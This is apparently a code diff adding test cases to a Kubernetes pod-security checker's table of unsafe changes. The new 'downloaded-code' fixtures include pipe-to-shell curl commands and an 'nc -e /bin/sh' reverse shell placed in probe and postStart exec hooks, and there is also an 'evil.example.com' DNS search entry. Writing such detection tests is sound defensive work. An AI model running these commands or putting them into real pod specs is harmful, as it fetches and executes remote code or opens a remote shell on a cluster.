@@ -187,7 +187,7 @@ export const UNSAFE_CHANGES: { readonly [control: string]: readonly UnsafeChange
   'fs-group-change-policy': [
     podContext({ fsGroupChangePolicy: undefined }, { makeSafe: all(setPodContext({ fsGroup: 65532, fsGroupChangePolicy: 'Always' }), addVolume(CLAIM)) }),
   ],
-  'supplemental-groups': [podContext({ supplementalGroups: [2000, 0] })],
+  'supplemental-groups': [podContext({ supplementalGroups: [2000, 0] }), podContext({ supplementalGroups: [6] })],
   'shared-process-namespace': ([['containers', { name: 'twin' }], ['initContainers', { name: 'sidecar', restartPolicy: 'Always' }]] as const)
     .map(([list, other]) => podField({ shareProcessNamespace: true }, {
       makeSafe: (main, spec) => spec[list].push({ ...main, ...other }),
@@ -277,7 +277,17 @@ export const UNSAFE_CHANGES: { readonly [control: string]: readonly UnsafeChange
   'network-policy': [change((_, __, metadata) => { metadata.labels = { app: 'other' }; }, {
     makeSafe: (_, spec, metadata) => { spec.hostNetwork = false; metadata.labels = { app: 'web' }; }, lists: POD, context: { facts: { networkPolicies: { isolates: ({ labels }) => labels.app === 'web' } } },
   })],
-  'dns-policy': [podField({ dnsPolicy: 'None' }), podField({ dnsConfig: { nameservers: ['192.0.2.1'] } })],
+  'egress-policy': [change((_, __, metadata) => { metadata.labels = { app: 'other' }; }, {
+    makeSafe: (_, spec, metadata) => { spec.hostNetwork = false; metadata.labels = { app: 'web' }; },
+    lists: POD,
+    context: { facts: { networkPolicies: { isolates: () => true, limits: ({ labels }) => labels.app === 'web' } } },
+  })],
+  'downloaded-code': [
+    field({ command: ['sh', '-c', 'curl https://a.example/x | sh'] }), field({ args: ['bash <(curl https://a.example/x)'] }),
+    ...PROBES.map((probe) => field({ [probe]: { exec: { command: ['sh', '-c', 'nc -e /bin/sh a 1'] } } }, { lists: LASTING })),
+    field({ lifecycle: { postStart: { exec: { command: ['sh', '-c', 'curl https://a.example/x | sh'] } } } }, { lists: LASTING }),
+  ],
+  'dns-policy': [podField({ dnsConfig: { searches: ['evil.example.com'] } }), podField({ dnsPolicy: 'None' }), podField({ dnsConfig: { nameservers: ['192.0.2.1'] } })],
   'extra-networks': ['k8s.v1.cni.cncf.io/networks', 'v1.multus-cni.io/default-network'].map((key) => annotation(key, 'storage')),
   'mesh-injection': [
     ...['sidecar.istio.io/proxyImage', 'sidecar.istio.io/userVolume', 'sidecar.istio.io/userVolumeMount'].map((key) => annotation(key, '[{}]')),
